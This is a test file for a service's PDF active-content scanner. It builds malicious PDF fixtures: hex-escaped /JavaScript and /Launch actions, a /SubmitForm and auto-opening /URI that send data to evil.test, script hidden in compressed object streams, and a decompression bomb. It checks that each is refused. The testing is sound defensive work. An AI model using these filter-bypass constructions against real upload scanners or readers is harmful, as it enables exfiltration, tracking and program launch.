/**
 * PDFs are checked for content that acts on its own (src/codecs/pdf-scan.ts), through the real server's
 * upload_asset: the five bypasses found (hex-escaped names `/J#61vaScript` and `/L#61unch`, `/AA` with
 * `/SubmitForm`, an auto-opening `/URI`, and script inside a compressed object stream) are refused,
 * naming what was found; an object stream that inflates like a bomb is stopped at the ratio limit;
 * PDFs that only display (a destination on open, links a reader clicks) are accepted. A large PDF is
 * scanned while /api/health keeps answering.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { zlibSync } from "fflate";
import { devAccessToken } from "./support/dev-login.ts";
import { probeHealthWhile } from "./support/health-probe.ts";
import { connectAgent, type Agent } from "./support/mcp-client.ts";
import { startTestService, type TestService } from "./support/service.ts";

let service: TestService;
let alice: Agent;
let courseId: string;

type Part = string | Uint8Array;
const latin1 = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));

/** A PDF of numbered objects (1 is the catalog); a part may hold stream bytes. */
function pdf(objects: Part[][]): Uint8Array {
  const parts: Part[] = ["%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"];
  objects.forEach((object, index) => parts.push(`${index + 1} 0 obj\n`, ...object, "\nendobj\n"));
  parts.push("trailer\n<< /Root 1 0 R >>\n%%EOF\n");
  return Buffer.concat(parts.map((part) => (typeof part === "string" ? latin1(part) : part)));
}

/** An object stream holding `objects` (number → body), FlateDecode; `type` is how /ObjStm is spelled. */
function objectStream(objects: Record<number, string>, type = "/ObjStm", inflated?: Uint8Array): Part[] {
  let header = "";
  let body = "";
  for (const [number, text] of Object.entries(objects)) {
    header += `${number} ${body.length} `;
    body += `${text}\n`;
  }
  const data = zlibSync(inflated ?? latin1(header + body), { level: 9 });
  return [`<< /Type ${type} /N ${Object.keys(objects).length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, data, "\nendstream"];
}

const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";

beforeAll(async () => {
  service = await startTestService();
  alice = await connectAgent(service, await devAccessToken(service, "alice"));
  courseId = String((await alice.call("create_course", { title: "Handouts" })).id);
}, 60_000);

afterAll(async () => {
  await alice?.close();
  await service?.dispose();
});

const upload = (bytes: Uint8Array, filename = "handout.pdf") =>
  alice.callRaw("upload_asset", { courseId, filename, mediaType: "application/pdf", dataBase64: Buffer.from(bytes).toString("base64") });

async function refusedFor(bytes: Uint8Array, ...phrases: string[]): Promise<void> {
  const error = await alice.fail("upload_asset", { courseId, filename: "handout.pdf", mediaType: "application/pdf", dataBase64: Buffer.from(bytes).toString("base64") });
  expect(error.code).toBe("invalid_arguments");
  expect(error.message).toStartWith("dataBase64: is refused: it is a PDF with active content (/");
  for (const phrase of phrases) expect(error.message).toContain(phrase);
}

describe("the five bypasses are refused", () => {
  test("script named with hex escapes (/J#61vaScript) is read as /JavaScript", async () => {
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"]]), "(/JavaScript): it holds script");
  });

  test("a launch action named with hex escapes (/L#61unch) is read as /Launch", async () => {
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>"], ["<< /Type /Annot /A << /S /L#61unch /F (calc.exe) >> >>"]]), "(/Launch): it holds an action that launches a program");
  });

  test("/AA with /SubmitForm (a form that sends itself when the page opens)", async () => {
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> >> >> >>"]]), "(/AA): it holds actions that run on their own");
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [<< /A << /S /Submit#46orm /F (https://evil.test) >> >>] >>"]]), "(/SubmitForm): it holds a form that sends data");
  });

  test("an /OpenAction that opens a web address (tracking) is refused, direct or by reference", async () => {
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.test/track) >> >>"], [pages], [page]]), "(/OpenAction /URI): it runs an action as it opens");
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>"], [pages], [page], ["<< /S /#55RI /URI (https://evil.test/track) >>"]]), "(/OpenAction /URI): it runs an action as it opens");
  });

  test("script inside a compressed object stream is found, even with /ObjStm spelled with escapes", async () => {
    const hidden = objectStream({ 5: "<< /S /JavaScript /JS (app.alert(1)) >>" }, "/Obj#53tm");
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "(/JavaScript): it holds script, inside a compressed object stream");
  });

  test("an /OpenAction to an object inside an object stream is resolved and judged", async () => {
    const hidden = objectStream({ 5: "<< /S /URI /URI (https://evil.test/track) >>" });
    await refusedFor(pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], hidden]), "(/OpenAction /URI): it runs an action as it opens");
  });
});

describe("bounded work", () => {
  test("an object stream that inflates 1000:1 is stopped at the ratio limit while health answers", async () => {
    const bomb = objectStream({ 5: "[3 0 R /Fit]" }, "/ObjStm", new Uint8Array(100 * 1024 * 1024));
    const { outcome, answered } = await probeHealthWhile(service.url, upload(pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], [page], bomb])));
    expect(answered).toBeGreaterThan(0);
    if (!outcome.ok) throw outcome.error;
    expect(outcome.value.isError).toBe(true);
    expect(JSON.stringify(outcome.value.content)).toContain("(/ObjStm): its object streams inflate to more than 1000:1, more than can be checked");
  }, 120_000);

  test("a 9 MB PDF with escaped script at its very end is scanned while health answers", async () => {
    const filler = new Uint8Array(9 * 1024 * 1024);
    crypto.getRandomValues(filler.subarray(0, 65536));
    for (let at = 65536; at < filler.length; at += 65536) filler.copyWithin(at, 0, 65536);
    const large = pdf([["<< /Type /Catalog /Pages 2 0 R >>"], [pages], [page], [`<< /Length ${filler.length} >>\nstream\n`, filler, "\nendstream"], ["<< /Type /Annot /A << /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >> >>"]]);
    const { outcome, answeredWhilePending } = await probeHealthWhile(service.url, upload(large));
    expect(answeredWhilePending).toBeGreaterThan(0);
    if (!outcome.ok) throw outcome.error;
    expect(JSON.stringify(outcome.value.content)).toContain("active content (/JavaScript): it holds script");
  }, 120_000);
});

describe("PDFs that only display are accepted", () => {
  test("a destination on open, a /GoTo, and a link a reader clicks", async () => {
    const shown = [
      pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"], [pages], ["<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>] >>"]]),
      pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"], [pages], [page]]),
      pdf([["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], [pages], [page], objectStream({ 5: "[3 0 R /FitH 792]" })]),
    ];
    for (const [index, bytes] of shown.entries()) {
      const result = await upload(bytes, `shown-${index}.pdf`);
      expect({ index, error: result.isError ? JSON.stringify(result.content) : undefined }).toEqual({ index, error: undefined });
    }
  });
});
